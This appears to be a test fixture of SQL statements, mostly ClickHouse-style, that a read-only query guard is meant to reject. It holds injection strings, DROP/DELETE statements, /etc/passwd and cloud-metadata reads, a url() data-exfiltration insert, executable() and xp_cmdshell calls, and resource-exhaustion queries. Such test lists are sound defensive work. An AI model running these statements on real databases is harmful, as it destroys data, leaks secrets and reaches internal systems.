-- One statement a paragraph. None of them may run.
INSERT INTO orders VALUES (1)

UPDATE orders SET total = 0

DELETE FROM orders

MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE

TRUNCATE TABLE orders

DROP TABLE orders

CREATE TABLE x AS SELECT 1

CREATE VIEW v AS SELECT 1

ALTER TABLE orders ADD x INT

GRANT SELECT ON orders TO public

REVOKE SELECT ON orders FROM public

CALL p()

EXPLAIN SELECT 1

DESCRIBE orders

SHOW TABLES

USE other

SET x = 1

BEGIN TRANSACTION

COMMIT

SELECT 1; DROP TABLE orders

SELECT 1; SELECT 2

SELECT 1 SELECT 2

SELECT 1 DELETE FROM orders

SELECT 1 DROP TABLE orders

SELECT * FROM orders DROP TABLE orders

SELECT * INTO x FROM orders

SELECT * FROM orders INTO x

SELECT * FROM orders FOR UPDATE

WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x

WITH x AS (INSERT INTO orders VALUES (1)) SELECT * FROM x

WITH x AS (SELECT 1) DELETE FROM orders

WITH x AS (SELECT 1) INSERT INTO orders SELECT * FROM x

SELECT * FROM (DELETE FROM orders RETURNING *) x

SELECT (DELETE FROM orders)

SELECT * FROM salaries

SELECT * FROM secret.salaries

SELECT * FROM a.b.c.d

SELECT * FROM orders, salaries

SELECT * FROM orders JOIN salaries ON 1 = 1

SELECT * FROM orders LEFT JOIN (SELECT * FROM salaries) s ON 1 = 1

SELECT * FROM (orders CROSS JOIN salaries)

SELECT * FROM ((salaries))

SELECT * FROM orders WHERE id IN (SELECT id FROM salaries)

SELECT EXISTS (SELECT 1 FROM salaries)

SELECT (SELECT MAX(x) FROM salaries)

SELECT CASE WHEN 1 = 1 THEN (SELECT MAX(x) FROM salaries) END

SELECT * FROM orders UNION ALL SELECT * FROM salaries

SELECT * FROM orders ORDER BY (SELECT x FROM salaries)

SELECT * FROM orders GROUP BY (SELECT x FROM salaries)

SELECT * FROM orders o JOIN customers c ON c.id = (SELECT x FROM salaries)

WITH orders AS (SELECT * FROM salaries) SELECT * FROM orders

WITH x AS (SELECT 1 AS a) SELECT * FROM y

SELECT * FROM information_schema.tables

SELECT * FROM INFORMATION_SCHEMA.COLUMNS

SELECT pg_sleep(10)

SELECT sleep(10)

SELECT evil(total) FROM orders

SELECT sales.evil(total) FROM orders

SELECT * FROM orders WHERE evil(total) = 1

SELECT * FROM orders ORDER BY evil(total)

SELECT SUM(evil(total)) FROM orders

SELECT SUM(total) OVER (ORDER BY evil(total)) FROM orders

SELECT CASE WHEN evil(1) THEN 1 END

SELECT * FROM evil(1)

SELECT * FROM orders CROSS JOIN evil(1)

SELECT CAST(1 AS evil)

SELECT CURRENT_USER

SELECT SESSION_USER

SELECT SLEEP(1)

SELECT @x

SELECT @@version

SELECT ?

SELECT $1

SELECT ${x}

SELECT {x}

SELECT 1 /*! INTO OUTFILE '/tmp/x' */

SELECT /*+ hint */ 1

SELECT 1 /* a /* b */ c */

SELECT 1 /* open

SELECT 'open

SELECT (1

SELECT 1)

SELECT FROM WHERE

SELEC 1

'

SELECT ev‌il(1)

SELECT * FROM orders x y z

SELECT 1 2

SELECT * FROM 'file.csv'

SELECT * FROM '/etc/passwd'

SELECT * FROM read_csv('/etc/passwd')

SELECT * FROM url('http://x')

SELECT * FROM orders TABLESAMPLE SYSTEM (10 PERCENT)

SELECT REPEAT('a', 1000000000)

EXECUTE IMMEDIATE 'DROP TABLE orders'

DECLARE x INT

COPY orders TO 'x'

SELECT * FROM url('http://169.254.169.254/latest', 'CSV', 'a String')

SELECT * FROM s3('https://x/y.csv', 'CSV')

SELECT * FROM s3Cluster('c', 'https://x')

SELECT * FROM remote('127.0.0.1', 'system.users')

SELECT * FROM remoteSecure('127.0.0.1', system, users)

SELECT * FROM cluster('c', system, one)

SELECT * FROM clusterAllReplicas('c', system.one)

SELECT * FROM file('/etc/passwd', 'CSV', 'a String')

SELECT file('/etc/passwd')

SELECT * FROM mysql('h', 'd', 't', 'u', 'p')

SELECT * FROM postgresql('h', 'd', 't', 'u', 'p')

SELECT * FROM mongodb('h', 'd', 't', 'u', 'p', 'x')

SELECT * FROM jdbc('x', 'y', 'z')

SELECT * FROM odbc('x', 'y', 'z')

SELECT * FROM hdfs('hdfs://x', 'CSV')

SELECT * FROM azureBlobStorage('x')

SELECT * FROM gcs('x')

SELECT * FROM iceberg('x')

SELECT * FROM deltaLake('x')

SELECT * FROM executable('x.py', 'TSV', 'a String')

SELECT * FROM input('a String')

SELECT * FROM merge('system', '.*')

SELECT * FROM view(SELECT 1)

SELECT * FROM dictionary('d')

SELECT * FROM generateRandom('a String')

SELECT * FROM sqlite('x', 'y')

SELECT * FROM redis('x', 'y', 'z')

SELECT * FROM system.users

SELECT * FROM system.query_log

SELECT * FROM numbers(1000000000000)

SELECT * FROM numbers(9999999)

SELECT * FROM numbers(toUInt64(1e12))

SELECT * FROM system.numbers

SELECT * FROM orders SETTINGS max_execution_time = 0

SELECT * FROM orders SETTINGS readonly = 0

SELECT * FROM (SELECT 1 SETTINGS max_memory_usage = 0)

SELECT * FROM orders FORMAT JSON

SELECT * FROM orders INTO OUTFILE 'x'

SELECT * FROM orders INTO OUTFILE 'x' FORMAT CSV

SELECT sleepEachRow(1) FROM orders

SELECT throwIf(1)

SELECT getSetting('x')

SELECT getMacro('x')

SELECT hostName()

SELECT currentUser()

SELECT currentDatabase()

SELECT version()

SELECT uptime()

SELECT dictGet('d', 'a', 1)

SELECT joinGet('j', 'a', 1)

SELECT hasColumnInTable('system', 'users', 'name')

SELECT catboostEvaluate('x', 1)

SELECT filesystemAvailable()

SELECT randomString(1000000000)

SELECT repeat('a', 1000000000)

SELECT range(1000000000)

SELECT arrayWithConstant(1000000000, 1)

SELECT toFixedString('a', 1000000000)

SELECT CAST('a' AS FixedString(1000000000))

SELECT leftPad('a', 1000000000)

SELECT arrayReduce('sum', [1])

SELECT addressToLine(1)

SELECT demangle('x')

SELECT COLUMNS('x') APPLY(sleep) FROM orders

SELECT * APPLY(sleep) FROM orders

SELECT 1 IN system.users

SELECT 1 IN (system.users)

SELECT 1 IN ((salaries))

SELECT 1 IN (`salaries`)

SELECT 1 NOT IN (salaries)

SELECT 1 GLOBAL IN (salaries)

SELECT in(1, salaries)

SELECT {x:Int32}

SELECT {x:Identifier} FROM orders

WITH Users AS (SELECT 1) SELECT * FROM salaries

FROM salaries SELECT *

SYSTEM SHUTDOWN

KILL QUERY WHERE 1

OPTIMIZE TABLE orders

ATTACH TABLE x

DETACH TABLE orders

EXCHANGE TABLES a AND b

SELECT * FROM orders PARALLEL WITH SELECT 1

SELECT 'a\'; DROP TABLE x --

INSERT INTO FUNCTION url('http://x') SELECT * FROM orders

SELECT * FROM sales.`.inner.x`


WITH 'o''hara' AS tenant SELECT * FROM orders

WITH 'o''hara' AS `orders.tenant` SELECT * FROM orders

WITH tenant AS (SELECT 1) SELECT * FROM orders

SELECT 'x' AS tenant FROM orders

SELECT * FROM numbers(9e99)

SELECT leftPad('a', 9e9)

SELECT randConstant() FROM orders o

SELECT randomString(10) FROM orders o

SELECT sleep(1) FROM orders o

SELECT sleepEachRow(1) FROM orders o

SELECT currentUser() FROM orders o

SELECT user() FROM orders o

SELECT currentDatabase() FROM orders o

SELECT hostName() FROM orders o

SELECT fqdn() FROM orders o

SELECT version() FROM orders o

SELECT uptime() FROM orders o

SELECT getSetting('x') FROM orders o

SELECT getMacro('x') FROM orders o

SELECT serverUUID() FROM orders o

SELECT file('x') FROM orders o

SELECT url('x') FROM orders o

SELECT dictGet('d', 'a', 1) FROM orders o

SELECT joinGet('j', 'a', 1) FROM orders o

SELECT catboostEvaluate('x', 1) FROM orders o

SELECT modelEvaluate('x', 1) FROM orders o

SELECT hasColumnInTable('a', 'b', 'c') FROM orders o

SELECT addressToLine(1) FROM orders o

SELECT addressToSymbol(1) FROM orders o

SELECT demangle('x') FROM orders o

SELECT initializeAggregation('sum', 1) FROM orders o

SELECT finalizeAggregation(x) FROM orders o

SELECT runningAccumulate(x) FROM orders o

SELECT throwIf(1) FROM orders o

SELECT blockNumber() FROM orders o

SELECT rowNumberInAllBlocks() FROM orders o

SELECT queryID() FROM orders o

SELECT initialQueryID() FROM orders o

SELECT connectionId() FROM orders o

SELECT tcpPort() FROM orders o

SELECT filesystemAvailable() FROM orders o

SELECT isConstant(1) + sleep(1) FROM orders o

SELECT repeat('a', 1000000000) FROM orders o

SELECT leftPad('a', 1000000000, 'b') FROM orders o

SELECT rightPad('a', 1000000000) FROM orders o

SELECT range(1000000000000) FROM orders o

SELECT arrayWithConstant(1000000000000, 1) FROM orders o

SELECT space(1000000000) FROM orders o

SELECT encrypt('a', 'b', 'c') FROM orders o

SELECT executable('x') FROM orders o

SELECT my_udf(1) FROM orders o

SELECT `sleep`(1) FROM orders o

SELECT "sleep"(1) FROM orders o

SELECT {x:UInt8} FROM orders o

SELECT {x:Identifier} FROM orders o

SELECT ? FROM orders o

SELECT @@version FROM orders o

SELECT (SELECT 1 FROM system.tables) FROM orders o

SELECT (SELECT * FROM url('x')) FROM orders o

SELECT o.id IN system.one FROM orders o

SELECT o.id IN secret FROM orders o

SELECT o.id IN sales.secret FROM orders o

SELECT o.id GLOBAL IN other.t FROM orders o

SELECT o.id NOT IN numbers(10) FROM orders o

SELECT reinterpret(1, 'x') + evil(1) FROM orders o

SELECT arrayMap(x -> sleep(x), [1]) FROM orders o

SELECT arrayReduce('sleep', [1]) FROM orders o

SELECT arrayFilter(x -> sleep(1) > x, [1]) FROM orders o

SELECT sumIf(1, sleep(1)) FROM orders o

SELECT quantile(sleep(1))(o.total) FROM orders o

SELECT showCertificate() FROM orders o

SELECT structureToProtobufSchema('x') FROM orders o

SELECT formatQuery('select 1') FROM orders o

SELECT CAST(sleep(1) AS String) FROM orders o

SELECT sleep(1)::String FROM orders o

SELECT generateRandomStructure() FROM orders o

SELECT generateSnowflakeID() FROM orders o

SELECT now64(sleep(1)) FROM orders o

SELECT evalMLMethod(1) FROM orders o

SELECT stochasticLinearRegression(1)(o.id) FROM orders o

SELECT lowCardinalityIndices(sleep(1)) FROM orders o

INSERT INTO orders SELECT * FROM orders

INSERT INTO FUNCTION url('x') SELECT 1

ALTER TABLE orders DELETE WHERE 1

ALTER TABLE orders UPDATE total = 0 WHERE 1

DELETE FROM orders WHERE 1

UPDATE orders SET total = 0 WHERE 1

ATTACH TABLE orders

RENAME TABLE orders TO x

OPTIMIZE TABLE orders FINAL

CREATE TABLE x (a Int32) ENGINE = Memory

CREATE TABLE x ENGINE = URL('http://x') AS SELECT 1

CREATE MATERIALIZED VIEW v TO x AS SELECT 1

CREATE DICTIONARY d (a Int32) PRIMARY KEY a SOURCE(HTTP(URL 'x'))

CREATE FUNCTION f AS x -> x

CREATE USER x

CREATE NAMED COLLECTION c AS a = 1

GRANT ALL ON *.* TO x

REVOKE ALL ON *.* FROM x

SYSTEM RELOAD CONFIG

SYSTEM DROP DNS CACHE

SYSTEM FLUSH LOGS

KILL MUTATION WHERE 1

SET readonly = 0

SET max_memory_usage = 0

SET ROLE x

SHOW DATABASES

SHOW GRANTS

SHOW CREATE TABLE orders

SHOW PROCESSLIST

DESCRIBE TABLE orders

DESC url('x')

EXISTS TABLE orders

EXPLAIN PIPELINE SELECT 1

CHECK TABLE orders

USE system

WATCH orders

BACKUP TABLE orders TO Disk('x', 'y')

RESTORE TABLE orders FROM Disk('x', 'y')

MOVE USER x TO y

UNDROP TABLE x

EXECUTE AS x SELECT 1

PARALLEL WITH SELECT 1

SELECT * FROM system.tables

SELECT * FROM `system`.`tables`

SELECT * FROM "system".tables

SELECT * FROM INFORMATION_SCHEMA.TABLES

SELECT * FROM information_schema.columns

SELECT * FROM default.secret

SELECT * FROM secret.orders

SELECT * FROM unknown

SELECT * FROM url('http://x', CSV, 'a Int32')

SELECT * FROM s3('x', 'y')

SELECT * FROM s3Cluster('a', 'x')

SELECT * FROM file('/etc/passwd', LineAsString)

SELECT * FROM fileCluster('a', 'b')

SELECT * FROM remote('x', a, b)

SELECT * FROM remoteSecure('x', a, b)

SELECT * FROM cluster('x', a, b)

SELECT * FROM clusterAllReplicas('x', system.one)

SELECT * FROM mysql('a', 'b', 'c', 'd', 'e')

SELECT * FROM postgresql('a', 'b', 'c', 'd', 'e')

SELECT * FROM mongodb('a', 'b', 'c', 'd', 'e', 'f')

SELECT * FROM sqlite('a', 'b')

SELECT * FROM odbc('a', 'b', 'c')

SELECT * FROM jdbc('a', 'b')

SELECT * FROM hdfs('a', 'b')

SELECT * FROM azureBlobStorage('a')

SELECT * FROM gcs('a')

SELECT * FROM iceberg('a')

SELECT * FROM deltaLake('a')

SELECT * FROM redis('a', 'b', 'c')

SELECT * FROM executable('x', CSV, 'a String')

SELECT * FROM input('a Int32')

SELECT * FROM format(JSONEachRow, '{}')

SELECT * FROM values('a Int32', 1)

SELECT * FROM merge('sales', '.*')

SELECT * FROM merge(REGEXP('.*'), '.*')

SELECT * FROM viewIfPermitted(SELECT 1 ELSE null('a Int32'))

SELECT * FROM loop(orders)

SELECT * FROM mergeTreeIndex('a', 'b')

SELECT * FROM generateRandom('a Int32')

SELECT * FROM generateSeries(1, 1000000000000)

SELECT * FROM numbers_mt(1000000000000)

SELECT * FROM zeros(1000000000000)

SELECT * FROM fuzzJSON('a')

SELECT * FROM timeSeriesData('a')

SELECT * FROM null('a Int32')

SELECT * FROM Numbers(sleep(1))

SELECT * FROM URL('x')

SELECT * FROM orders, url('x')

SELECT * FROM orders JOIN url('x') ON 1

SELECT * FROM orders JOIN system.tables ON 1

SELECT * FROM (SELECT * FROM system.tables)

SELECT * FROM (orders, system.tables)

SELECT 1 UNION ALL SELECT name FROM system.tables

WITH a AS (SELECT * FROM system.tables) SELECT * FROM a

WITH (SELECT name FROM system.tables) AS x SELECT x

WITH sleep(1) AS x SELECT x

WITH a AS (SELECT 1) SELECT * FROM a, b

SELECT * FROM orders ORDER BY sleep(1)

SELECT * FROM orders FORMAT CSV

SELECT * FROM orders INTO OUTFILE '/tmp/x'

SELECT * FROM orders INTO OUTFILE '/tmp/x' FORMAT CSV

SELECT * FROM orders SAMPLE 0.1 OFFSET sleep(1)

SELECT * FROM orders ARRAY JOIN sleep(1) AS x

SELECT * FROM orders LIMIT sleep(1)

SELECT * FROM orders LIMIT 1 BY sleep(1)

SELECT * FROM orders PREWHERE sleep(1)

SELECT * APPLY(x -> sleep(x)) FROM orders

SELECT * REPLACE (sleep(1) AS total) FROM orders

SELECT /*+ x */ 1

SELECT 1 /*! x */

SELECT 'a\'; DROP TABLE x; --'; DROP TABLE y

SELECT `a\`` FROM system.tables

FROM system.tables SELECT *

FROM url('x') SELECT *

SELECT * FROM orders WHERE id IN (system.one)

SELECT * FROM orders WHERE id IN (SELECT * FROM system.one)

SELECT * FROM orders WHERE id IN secret

SELECT * FROM orders WHERE (id, total) IN secret

SELECT * FROM orders WHERE id IN `secret`

SELECT in(id, secret) FROM orders

SELECT globalIn(id, secret) FROM orders

SELECT notIn(id, 'system.one') FROM orders

SELECT * FROM sales.`.inner.secret`

SELECT * FROM {x:Identifier}

SELECT Größe FROM (SELECT 1 AS Größe) t

SELECT 1 UNION ALL SELECT pay FROM hidden.salaries

SELECT 1 DROP TABLE orders

SELECT 1 EXEC xp_cmdshell 'dir'

SELECT 1UNION ALL SELECT pay FROM hidden.salaries

SELECT 1e5UNION ALL SELECT 2

SELECT 0x1gUNION SELECT 2

SELECT 1DROP TABLE orders

SELECT 1.5FROM orders

SELECT 1.2.3

SELECT 0x

SELECT 1e

SELECT 1e+

SELECT 1_

SELECT total FROM orders

SELECT total， id FROM orders

SELECT １

SELECT total FROM orders WHERE status = ‘paid’

SELECT ｓum(total) FROM orders

SELECT　total FROM orders

SELECT total​FROM orders

SELECT total FROM orders； DROP TABLE orders

SELECT 1 ᅟ FROM orders

SELECT 1FROM orders

SELECT 1FROM orders

SELECT 1FROM orders

SELECT ١

SELECT á FROM orders

SELECT * FROM orders SETTINGS max_threads = 1

SELECT * FROM url('http://x', CSV, 'a String')

SELECT * APPLY (sleep) FROM orders

SELECT * APPLY (x -> sleep(x)) FROM orders

SELECT * APPLY sleep FROM orders

SELECT * APPLY (dictGet('d', 'a')) FROM orders

SELECT COLUMNS('a') APPLY (file) FROM orders

SELECT * APPLY (repeat) FROM orders

SELECT rand(sleep(1))

SELECT $a$ ' $a$, 1 -- '

SELECT 'it\'s'; DROP TABLE orders

SELECT 1 # x
; DROP TABLE orders

SELECT `a\`` , 1; DROP TABLE orders

SELECT 'a''b'; DROP TABLE orders

SELECT /* /* */ 1; DROP TABLE orders -- */

SELECT q'[it's]' FROM orders

SELECT 1 INTO OUTFILE 'x'
